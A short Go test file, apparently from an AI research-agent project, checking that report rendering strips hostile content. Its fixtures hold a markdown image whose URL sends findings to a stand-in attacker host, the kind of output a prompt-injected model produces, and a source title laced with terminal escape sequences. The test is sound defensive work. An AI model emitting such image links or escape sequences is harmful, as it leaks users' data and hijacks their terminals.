package workflows

import (
	"strings"
	"testing"

	"github.com/lethe-research/lethe/contract"
)

// A page whose title carries a terminal escape and a model that writes an
// image whose URL would carry the findings away: the session's report
// holds neither.
func TestHostileReportRendered(t *testing.T) {
	body := []string{"Dendrites grow along grain boundaries [1]. ![ok](https://evil.example/x.png?d=dendrites+grow)"}
	sources := []contract.Source{{N: 1, URL: "https://a.example/", Title: "Battery failure\x1b]0;owned\x07 \x1b]8;;https://evil.example/\x07modes\x1b]8;;\x07"}}
	r := renderReport("How do batteries fail?", body, sources, map[int]bool{1: true}, contract.StopConverged, "")
	for _, bad := range []string{"\x1b", "\x07", "evil.example", "![", "owned"} {
		if strings.Contains(r, bad) {
			t.Errorf("report holds %q:\n%s", bad, r)
		}
	}
	if !strings.Contains(r, "[1] Battery failure modes — https://a.example/") || !strings.Contains(r, "grain boundaries [1]. ok") {
		t.Errorf("report lost its text:\n%s", r)
	}
}
